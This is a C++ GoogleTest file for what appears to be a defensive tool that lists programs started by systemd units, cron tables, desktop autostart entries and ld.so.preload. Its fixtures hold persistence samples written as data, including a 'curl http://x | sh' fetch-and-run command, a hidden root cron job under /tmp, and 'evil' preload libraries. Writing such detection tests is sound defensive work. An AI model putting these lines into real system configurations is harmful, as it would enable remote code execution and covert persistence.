#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "core/autostart/AutostartReader.h"
#include "core/autostart/CronTable.h"
#include "core/autostart/DesktopEntry.h"
#include "core/autostart/PreloadList.h"
#include "core/autostart/UnitFile.h"
#include "support/FakeDirectoryTree.h"
#include "support/FakeFileStore.h"

namespace quellstone::autostart {

void PrintTo(const StartedProgram& p, std::ostream* os) {
    *os << p.line << ": " << ::testing::PrintToString(p.program);
}
void PrintTo(const AutostartEntry& e, std::ostream* os) {
    *os << e.file << ":" << e.line << ": " << ::testing::PrintToString(e.program) << (e.wholeFile ? " (file)" : "");
}

namespace {

using namespace std::string_view_literals;
using Parser = std::vector<StartedProgram> (*)(std::string_view);

std::vector<StartedProgram> UserCron(std::string_view text) {
    return ParseCronTable(text, CronTableKind::User);
}
std::vector<StartedProgram> SystemCron(std::string_view text) {
    return ParseCronTable(text, CronTableKind::System);
}

struct ParserCase {
    const char* name;
    Parser parse;
    std::string_view text;
    std::vector<StartedProgram> expected;
};

TEST(AutostartParsersTest, FindTheProgramsEachFormatStarts) {
    const ParserCase cases[] = {
        {"unit prefixes and keys",
         ParseUnitFile,
         "[Service]\nExecStartPre=-/bin/mkdir -p /run/x\nExecStart=@/usr/bin/daemon name --flag\n"
         "ExecStartPost=!!/usr/bin/post\nExecReload=+:/bin/kill -HUP $MAINPID\nExecPaths=/opt\nExec=/not/a/key\n",
         {{2, "/bin/mkdir"}, {3, "/usr/bin/daemon"}, {4, "/usr/bin/post"}, {5, "/bin/kill"}}},
        {"unit quoting, continuation, comments, separators",
         ParseUnitFile,
         "# ExecStart=/commented\r\n; ExecStart=/also\r\nExecStart=\"/opt/my app/run\" \\\r\n  # inside\r\n  --arg\r\n"
         "ExecStop=/bin/a ; -/bin/b \\; x\r\nExecStartPre=/bin/sh -c 'curl http://x | sh'\r\nExecStart=\r\n"
         "ExecStart\r\nExecStart=/x\0y\r\nExecStopPost='/unterminated path\nExecStart=/last \\"sv,
         {{3, "/opt/my app/run"},
          {6, "/bin/a"},
          {6, "/bin/b"},
          {7, "/bin/sh"},
          {7, "curl"},
          {10, std::string("/x\0y"sv)},
          {11, "/unterminated path"},
          {12, "/last"}}},
        {"user cron table",
         UserCron,
         "SHELL=/bin/bash\nPATH = /usr/bin:/bin\n# 0 * * * * /commented\n*/5 * * * * /usr/local/bin/job >/dev/null "
         "2>&1\n"
         "@reboot sh -c \"cd /tmp && ./x\"\n0 3 * * mon-fri /usr/bin/backup%input%more\n0 4 * * * /bin/echo\\%x\n"
         "@bogus /x\n1 2 3 /short\n\t0 0 1 jan * FOO=1 /usr/bin/env-job\r\n@daily (sleep 5; /opt/late)\n",
         {{4, "/usr/local/bin/job"},
          {5, "sh"},
          {5, "cd"},
          {6, "/usr/bin/backup"},
          {7, "/bin/echo%x"},
          {10, "/usr/bin/env-job"},
          {11, "sleep"}}},
        {"system cron table",
         SystemCron,
         "0 * * * * root /usr/bin/hourly\n@reboot root bash -lc '/opt/agent --x'\n* * * * * /no/user\n"
         "@hourly root /bin/sh -o errexit /tmp/.x/run.sh\n",
         {{1, "/usr/bin/hourly"}, {2, "bash"}, {2, "/opt/agent"}, {4, "/bin/sh"}, {4, "/tmp/.x/run.sh"}}},
        {"desktop entry",
         ParseDesktopEntry,
         "Exec=/before/group\n[Desktop Entry]\nHidden=true\nExec=\"/opt/App Dir/app\" %U\nTryExec=/nope\n"
         "Exec[de]=/localized\n[Desktop Action new]\nExec=/action/only\n[Desktop Entry]\nExec = \"/a\\sb\" --x\n",
         {{4, "/opt/App Dir/app"}, {10, "/a b"}}},
        {"preload list",
         ParsePreloadList,
         "/usr/lib/libfoo.so /usr/lib/libbar.so:/lib/x.so\n# /commented.so\n\n/tmp/.evil.so # /trailing.so\r\n",
         {{1, "/usr/lib/libfoo.so"}, {1, "/usr/lib/libbar.so"}, {1, "/lib/x.so"}, {4, "/tmp/.evil.so"}}},
    };
    for (const ParserCase& c : cases) EXPECT_EQ(c.parse(c.text), c.expected) << c.name;

    std::string many;
    for (std::size_t i = 0; i <= kMaxProgramsPerFile; ++i) many += "ExecStart=/x\n";
    for (const Parser parse : {ParseUnitFile, ParsePreloadList}) EXPECT_EQ(parse(many).size(), kMaxProgramsPerFile);
}

class AutostartReaderTest : public ::testing::Test {
protected:
    using Node = testing::FakeDirectoryTree::Node;

    Node& FolderAt(std::string_view path) {
        Node* node = &tree.Root();
        for (std::size_t start = 1; start < path.size();) {
            const std::size_t end = std::min(path.find('/', start), path.size());
            const std::string part(path.substr(start, end - start));
            auto it = std::ranges::find(node->children, part, [](const auto& child) { return child->name; });
            node = it != node->children.end() ? it->get() : &node->Folder(part);
            start = end + 1;
        }
        return *node;
    }
    void Put(const std::string& path, std::string content, ports::EntryKind kind = ports::EntryKind::RegularFile) {
        const std::size_t slash = path.rfind('/');
        FolderAt(path.substr(0, slash)).Add(path.substr(slash + 1), kind);
        files.Put(path, std::move(content));
    }

    testing::FakeDirectoryTree tree;
    testing::FakeFileStore files;
};

TEST_F(AutostartReaderTest, ReadsEveryPlaceAndCountsWhatItCannotRead) {
    const std::string units = "/r/etc/systemd/system";
    Put(units + "/evil.service", "ExecStart=/opt/evil\n");
    Put(units + "/multi-user.target.wants/linked.service", "ExecStart=/usr/bin/linked\n",
        ports::EntryKind::SymbolicLink);
    Put(units + "/multi-user.target.wants/masked.service", "", ports::EntryKind::SymbolicLink);
    files.unreadable.insert(units + "/multi-user.target.wants/masked.service");
    files.Put("/dev/null", "");
    Put(units + "/foo.service.d/override.conf", "ExecStart=\nExecStart=/opt/override\n");
    Put(units + "/other/deeper.service", "ExecStart=/not/a/unit/folder\n");
    FolderAt("/r/run/systemd/system").opens = false;
    Put("/r/etc/crontab", "0 * * * * root /usr/bin/hourly\n");
    Put("/r/etc/cron.d/job", "@reboot root /opt/cronjob\n");
    Put("/r/etc/cron.d/huge", std::string(kMaxAutostartFileSize + 1, '#'));
    FolderAt("/r/var/spool/cron/crontabs").File("user");
    files.unreadable.insert("/r/var/spool/cron/crontabs/user");
    Put("/r/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/usr/bin/a\n");
    Put("/r/etc/xdg/autostart/notes.txt", "[Desktop Entry]\nExec=/not/desktop\n");
    Put("/r/home/u/.config/autostart/b.desktop", "[Desktop Entry]\nExec=b --x\n");
    Put("/r/home/u/.config/systemd/user/u.service", "ExecStart=%h/bin/u\n");
    Put("/r/etc/ld.so.preload", "/lib/evil.so\n");

    const AutostartList list = ReadAutostart(tree, files, "/r/", "/home/u");
    const std::vector<AutostartEntry> expected = {
        {units + "/evil.service", 1, "/opt/evil", true},
        {units + "/multi-user.target.wants/linked.service", 1, "/usr/bin/linked", true},
        {units + "/foo.service.d/override.conf", 2, "/opt/override", true},
        {"/r/home/u/.config/systemd/user/u.service", 1, "%h/bin/u", true},
        {"/r/etc/crontab", 1, "/usr/bin/hourly", false},
        {"/r/etc/cron.d/job", 1, "/opt/cronjob", true},
        {"/r/etc/xdg/autostart/a.desktop", 2, "/usr/bin/a", true},
        {"/r/home/u/.config/autostart/b.desktop", 2, "b", true},
        {"/r/etc/ld.so.preload", 1, "/lib/evil.so", false},
    };
    EXPECT_EQ(list.entries, expected);
    // The unopenable folder, the oversized file and the unreadable table; the
    // places that are missing and the masked unit are no failures.
    EXPECT_EQ(list.notReadPaths, (std::vector<std::string>{"/r/run/systemd/system", "/r/etc/cron.d/huge",
                                                           "/r/var/spool/cron/crontabs/user"}));
    EXPECT_EQ(list.notRead, 3u);
}

}  // namespace
}  // namespace quellstone::autostart
